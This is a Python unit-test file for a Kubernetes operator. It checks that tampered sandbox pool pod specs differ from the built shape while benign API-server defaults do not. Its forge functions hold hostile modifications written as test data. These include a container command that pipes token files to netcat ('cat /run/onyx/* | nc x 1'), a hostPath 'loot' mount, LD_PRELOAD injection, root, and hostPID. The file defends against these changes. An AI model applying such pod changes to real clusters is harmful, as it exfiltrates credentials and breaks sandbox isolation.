"""Specification of a pool pod's shape: equal for the spec the operator builds and the pod
the API server stores from it (defaults and all), different wherever someone else's pod
could run other code or keep the token written into it."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from craft_operator.api.pool import parse_pool
from craft_operator.builders.pool import build_pool_pod
from craft_operator.config import Settings
from craft_operator.kube.cache import compact_pod
from craft_operator.kube.pod_shape import DIGEST, SHAPE, digest_of, first_difference, shape_of

pytestmark = pytest.mark.unit


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(state_dir=tmp_path / "state", server_url="http://onyx.invalid:8080")


def built_spec(settings: Settings) -> dict[str, Any]:
    body = {
        "apiVersion": "craft.onyx.app/v1alpha1",
        "kind": "CraftSandboxPool",
        "metadata": {"name": "warm", "namespace": "craft-sandboxes", "uid": "u-1"},
        "spec": {"replicas": 1},
    }
    spec: dict[str, Any] = build_pool_pod(parse_pool(body), settings)["spec"]
    return spec


def as_stored(spec: dict[str, Any]) -> dict[str, Any]:
    """``spec`` with what the API server adds when it stores a pod (Kubernetes 1.3x)."""
    stored = copy.deepcopy(spec)
    stored.update(
        dnsPolicy="ClusterFirst",
        schedulerName="default-scheduler",
        serviceAccount="default",
        serviceAccountName="default",
        terminationGracePeriodSeconds=30,
        preemptionPolicy="PreemptLowerPriority",
        priority=0,
        nodeName="kwok-node",
        tolerations=[
            {
                "key": "node.kubernetes.io/not-ready",
                "operator": "Exists",
                "effect": "NoExecute",
                "tolerationSeconds": 300,
            }
        ],
    )
    for container in stored["containers"]:
        container.update(
            terminationMessagePath="/dev/termination-log",
            terminationMessagePolicy="File",
            imagePullPolicy="IfNotPresent",
        )
    return stored


def test_a_pod_as_the_api_server_stores_it_has_the_shape_it_was_built_with(
    settings: Settings,
) -> None:
    built = built_spec(settings)
    assert first_difference(shape_of(as_stored(built)), shape_of(built)) is None


def test_defaults_the_api_server_fills_into_probes_env_and_volumes_make_no_difference() -> None:
    built: dict[str, Any] = {
        "containers": [
            {
                "name": "c",
                "env": [{"name": "POD", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}],
                "readinessProbe": {"exec": {"command": ["true"]}},
            }
        ],
        "volumes": [{"name": "v", "configMap": {"name": "m"}}],
    }
    stored: Any = copy.deepcopy(built)
    stored["containers"][0]["env"][0]["valueFrom"]["fieldRef"]["apiVersion"] = "v1"
    stored["containers"][0]["readinessProbe"].update(
        timeoutSeconds=1, periodSeconds=10, successThreshold=1, failureThreshold=3
    )
    stored["volumes"][0]["configMap"]["defaultMode"] = 0o644
    assert first_difference(shape_of(stored), shape_of(built)) is None


def _volume(spec: dict[str, Any], name: str) -> dict[str, Any]:
    volume: dict[str, Any] = next(v for v in spec["volumes"] if v["name"] == name)
    return volume


def token_on_a_host_path(spec: dict[str, Any]) -> None:
    volume = _volume(spec, "onyx-credentials")
    del volume["emptyDir"]
    volume["hostPath"] = {"path": "/var/tmp/loot"}


def token_on_disk(spec: dict[str, Any]) -> None:
    del _volume(spec, "onyx-credentials")["emptyDir"]["medium"]


def another_command(spec: dict[str, Any]) -> None:
    spec["containers"][0]["command"] = ["/bin/sh", "-c", "sleep 5; cat /run/onyx/* | nc x 1"]


def a_container_beside_it(spec: dict[str, Any]) -> None:
    spec["containers"].append(
        {
            "name": "watcher",
            "image": "busybox",
            "volumeMounts": [{"name": "onyx-credentials", "mountPath": "/t"}],
        }
    )


def an_init_container(spec: dict[str, Any]) -> None:
    spec["initContainers"] = [{"name": "prep", "image": "busybox"}]


def a_preloaded_library(spec: dict[str, Any]) -> None:
    spec["containers"][0]["env"].append({"name": "LD_PRELOAD", "value": "/tmp/x.so"})


def a_hook(spec: dict[str, Any]) -> None:
    spec["containers"][0]["lifecycle"] = {"postStart": {"exec": {"command": ["/tmp/x"]}}}


def a_probe_that_runs_a_command(spec: dict[str, Any]) -> None:
    spec["containers"][0]["livenessProbe"] = {"exec": {"command": ["/tmp/x"]}}


def another_image(spec: dict[str, Any]) -> None:
    spec["containers"][0]["image"] = "attacker/sandbox:1"


def the_hosts_processes(spec: dict[str, Any]) -> None:
    spec["hostPID"] = True


def a_service_account_token(spec: dict[str, Any]) -> None:
    spec["automountServiceAccountToken"] = True


def root(spec: dict[str, Any]) -> None:
    spec["containers"][0]["securityContext"]["runAsUser"] = 0


def the_token_mounted_elsewhere(spec: dict[str, Any]) -> None:
    spec["containers"][0]["volumeMounts"][2]["mountPath"] = "/workspace/user_library/onyx"


def a_host_file_at_the_token(spec: dict[str, Any]) -> None:
    # The kubelet binds a host file there, and copies it into the pod's status at its end.
    spec["containers"][0]["terminationMessagePath"] = "/run/onyx/pat.12"


def the_servers_name_elsewhere(spec: dict[str, Any]) -> None:
    spec["hostAliases"] = [{"ip": "10.9.9.9", "hostnames": ["onyx.invalid"]}]


def another_runtime(spec: dict[str, Any]) -> None:
    spec["runtimeClassName"] = "runc-unsandboxed"


def an_end_of_its_choosing(spec: dict[str, Any]) -> None:
    spec["activeDeadlineSeconds"] = 60


def a_field_of_a_later_kubernetes(spec: dict[str, Any]) -> None:
    spec["somethingNew"] = {"enabled": True}


@pytest.mark.parametrize(
    ("forge", "where"),
    [
        (token_on_a_host_path, "spec.volumes[onyx-credentials]"),
        (token_on_disk, "spec.volumes[onyx-credentials]"),
        (another_command, "spec.containers[sandbox].command"),
        (a_container_beside_it, "spec.containers"),
        (an_init_container, "spec.initContainers"),
        (a_preloaded_library, "spec.containers[sandbox].env"),
        (a_hook, "spec.containers[sandbox].lifecycle"),
        (a_probe_that_runs_a_command, "spec.containers[sandbox].livenessProbe"),
        (another_image, "spec.containers[sandbox].image"),
        (the_hosts_processes, "spec.hostPID"),
        (a_service_account_token, "spec.automountServiceAccountToken"),
        (root, "spec.containers[sandbox].securityContext"),
        (the_token_mounted_elsewhere, "spec.containers[sandbox].volumeMounts"),
        (a_host_file_at_the_token, "spec.containers[sandbox].terminationMessagePath"),
        (the_servers_name_elsewhere, "spec.hostAliases"),
        (another_runtime, "spec.runtimeClassName"),
        (an_end_of_its_choosing, "spec.activeDeadlineSeconds"),
        (a_field_of_a_later_kubernetes, "spec.somethingNew"),
    ],
)
def test_a_pod_made_otherwise_differs_where_it_was_changed(
    settings: Settings, forge: Callable[[dict[str, Any]], None], where: str
) -> None:
    built = built_spec(settings)
    forged = as_stored(built)
    forge(forged)
    assert first_difference(shape_of(forged), shape_of(built)) == where


def test_where_it_runs_and_how_big_it_is_make_no_difference(settings: Settings) -> None:
    built = built_spec(settings)
    placed = as_stored(built)
    placed.update(
        nodeSelector={"pool": "b"},
        affinity={"nodeAffinity": {}},
        priorityClassName="high",
        priority=1000,
        overhead={"cpu": "250m"},
    )
    placed["containers"][0]["resources"] = {"requests": {"cpu": "500m"}}
    assert digest_of(shape_of(placed)) == digest_of(shape_of(built))


def test_the_cache_keeps_the_shape_of_unclaimed_pool_pods_only(settings: Settings) -> None:
    spec = as_stored(built_spec(settings))
    pool_pod = {"metadata": {"name": "warm-1", "labels": {"craft.onyx.app/pool": "warm"}}}
    claimed = {"metadata": {"name": "warm-2", "labels": {"craft.onyx.app/claimed-from": "warm"}}}
    kept = compact_pod({**pool_pod, "spec": spec})["spec"]
    assert kept[SHAPE] == shape_of(spec)
    assert kept[DIGEST] == digest_of(shape_of(spec))
    assert SHAPE not in compact_pod({**claimed, "spec": spec})["spec"]


def test_what_kubernetes_own_admission_plugins_add_makes_no_difference(settings: Settings) -> None:
    built = built_spec(settings)
    admitted = as_stored(built)
    admitted["imagePullSecrets"] = [{"name": "registry"}]  # the ServiceAccount plugin
    admitted["containers"][0]["imagePullPolicy"] = "Always"  # AlwaysPullImages
    admitted["nodeSelector"] = {"zone": "a"}  # PodNodeSelector
    assert digest_of(shape_of(admitted)) == digest_of(shape_of(built))
